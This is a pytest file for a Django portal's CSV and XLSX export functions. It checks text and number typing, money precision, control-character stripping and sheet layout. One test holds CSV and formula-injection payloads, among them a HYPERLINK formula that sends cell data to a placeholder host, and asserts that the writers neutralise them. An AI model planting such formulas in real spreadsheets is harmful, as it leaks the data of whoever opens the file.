"""The CSV and XLSX writers (``kk_portal.exports``): codes stay text, no cell becomes a formula,
numbers stay numbers."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from aspirations.models import Aspiration
from aspirations.stages import Stage
from kk_portal.exports import (
    CODE,
    CSV_ROWS_PER_CHUNK,
    DATE,
    MONEY,
    NUMBER,
    TEXT,
    Column,
    choice_label,
    iter_csv,
    write_csv,
    write_xlsx,
)
from members.models import Member, Sex

pytestmark = pytest.mark.usefixtures("english")


def test_writers_keep_codes_as_text_and_numbers_as_numbers():
    columns = [
        Column("NIK", "nik", CODE),
        Column("HP", "phone", CODE),
        Column("RT", "rt", CODE),
        Column("Catatan", "note", TEXT),
        Column("Jumlah", "amount", MONEY),
        Column("N", "n", NUMBER),
    ]
    rows = [
        {
            "nik": "9471024506880007",
            "phone": "081234567890",
            "rt": "003",
            "note": "-50% jalan rusak",
            "amount": Decimal("-5000.00"),
            "n": 3,
        }
    ]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert [c.value for c in cells[:4]] == [
        "9471024506880007",
        "081234567890",
        "003",
        "-50% jalan rusak",
    ]
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "s"]
    assert cells[4].value == -5000 and cells[4].data_type == "n"
    assert cells[5].value == 3 and cells[5].data_type == "n"

    text = write_csv(rows, columns).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == [
        "9471024506880007",
        "081234567890",
        "003",
        "'-50% jalan rusak",
        "-5000.00",
        "3",
    ]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://example.invalid/?d="&B2,"Lihat")', "@SUM(1+1)", "+1+1", "-2+3"],
)
def test_writers_never_write_a_formula(value):
    columns = [Column("Judul", "title", TEXT), Column("Kode", "code", CODE)]
    rows = [{"title": value, "code": value}]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert all(c.data_type == "s" and c.value == value for c in cells)

    line = list(csv.reader(io.StringIO(write_csv(rows, columns).decode("utf-8-sig"))))[1]
    assert line == ["'" + value, "'" + value]


def _book(rows, columns, **options):
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream, **options)
    stream.seek(0)
    return openpyxl.load_workbook(stream)


def test_xlsx_money_keeps_every_rupiah_or_becomes_text():
    columns = [Column("Jumlah", "amount", MONEY)]
    amounts = [
        Decimal("617666666.66"),  # 11 significant digits: a number
        Decimal("123456789012.34"),  # 14: a number
        Decimal("9999999999999.99"),  # 15: still a number Excel keeps whole
        Decimal("12345678901234567.89"),  # 19: a double would round it, so text
        1234567.1,  # a float from an aggregate: its shortest repr, not its binary expansion
    ]
    rows = [{"amount": amount} for amount in amounts]

    cells = [row[0] for row in list(_book(rows, columns).active.iter_rows())[1:]]

    assert [c.data_type for c in cells] == ["n", "n", "n", "s", "n"]
    assert [str(c.value) for c in cells[:3]] == [
        "617666666.66",
        "123456789012.34",
        "9999999999999.99",
    ]
    assert cells[3].value == "12345678901234567.89"
    assert cells[4].value == 1234567.1
    text = write_csv(rows, columns).decode("utf-8-sig")
    assert text.splitlines()[1:] == [
        "617666666.66",
        "123456789012.34",
        "9999999999999.99",
        "12345678901234567.89",
        "1234567.1",
    ]


def test_control_characters_never_make_an_export_fail():
    columns = [Column("Judul\x07", "title", TEXT), Column("Kode", "code", CODE)]
    rows = [{"title": "Jalan\x1b[31m rusak\x07\x00\nRT 3\tdusun", "code": "\x1b=1+1"}]

    sheet = _book(rows, columns).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    line = list(csv.reader(io.StringIO(write_csv(rows, columns).decode("utf-8-sig"))))

    assert values == [["Judul", "Kode"], ["Jalan[31m rusak\nRT 3\tdusun", "=1+1"]]
    assert sheet["B2"].data_type == "s"
    assert line == [["Judul", "Kode"], ["Jalan[31m rusak\nRT 3\tdusun", "'=1+1"]]


def test_xlsx_sheets_have_widths_a_frozen_header_a_filter_and_an_about_sheet():
    columns = [
        Column("Judul", "title", TEXT),
        Column("Tanggal", "day", DATE),
        Column("Jumlah", "amount", MONEY, width=22),
    ]
    rows = [{"title": "Sumur", "day": None, "amount": Decimal("1")}] * 3
    extra = [("Kedua", [{"title": "x", "day": None, "amount": None}], columns)]

    book = _book(rows, columns, sheets=extra, about=[("Desa", "Alfa"), ("Diekspor", "kini")])

    assert book.sheetnames == ["Uji", "Kedua", "About"]
    first = book["Uji"]
    assert first.freeze_panes == "A2"
    assert first.auto_filter.ref == "A1:C4"
    assert [first.column_dimensions[c].width for c in "ABC"] == [28, 12, 22]
    assert book["Kedua"].auto_filter.ref == "A1:C2"
    assert [[c.value for c in row] for row in book["About"].iter_rows()] == [
        ["Desa", "Alfa"],
        ["Diekspor", "kini"],
    ]


def test_choice_label_gives_the_label_in_the_active_language_like_get_display():
    stage = choice_label("stage")
    aspiration = Aspiration(stage=Stage.BUDGETED)
    member_sex = choice_label("member.sex")
    row = type("Row", (), {"member": Member(sex=Sex.FEMALE)})()

    assert stage(aspiration) == aspiration.get_stage_display() == "budgeted (APBDes/APBD)"
    assert member_sex(row) == row.member.get_sex_display()
    with translation.override("id"):
        assert stage(aspiration) == aspiration.get_stage_display() == "dianggarkan (APBDes/APBD)"
    assert stage(Aspiration(stage="unknown")) == "unknown"


def test_choice_label_translates_the_choices_once_per_language(monkeypatch):
    stage = choice_label("stage")
    field = Aspiration._meta.get_field("stage")
    built = []
    flatchoices = type(field).flatchoices
    monkeypatch.setattr(
        type(field), "flatchoices", property(lambda f: built.append(1) or flatchoices.fget(f))
    )

    labels = [stage(Aspiration(stage=value)) for value in [*Stage.values] * 500]

    assert len(labels) == 5500 and len(built) == 1


def test_csv_is_written_a_few_hundred_rows_at_a_time_and_keeps_every_row():
    columns = [Column("Judul", "title", TEXT), Column("N", "n", NUMBER)]
    rows = [{"title": f"Usulan {n}", "n": n} for n in range(2 * CSV_ROWS_PER_CHUNK + 1)]

    chunks = list(iter_csv(rows, columns))
    lines = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))

    # One write per chunk of rows (the server's cost), not one per row.
    assert len(chunks) == 3
    assert lines[0] == ["Judul", "N"]
    assert lines[1:] == [[f"Usulan {n}", str(n)] for n in range(2 * CSV_ROWS_PER_CHUNK + 1)]


def test_csv_of_no_rows_is_its_header():
    columns = [Column("Judul", "title", TEXT)]

    assert write_csv([], columns).decode("utf-8-sig") == "Judul\r\n"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Désa Waémata, RT 003", "Désa Waémata, RT 003"),
        ("Jalan\u00a0rusak", "Jalan\u00a0rusak"),
        ("\x00=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("baris satu\r\nbaris dua", "baris satu\r\nbaris dua"),
        (1500000, "1500000"),
    ],
)
def test_csv_text_cells_keep_letters_and_spaces_and_refuse_formulas(value, cell):
    columns = [Column("Catatan", "note", TEXT)]

    line = list(csv.reader(io.StringIO(write_csv([{"note": value}], columns).decode("utf-8-sig"))))

    assert line[1] == [cell]
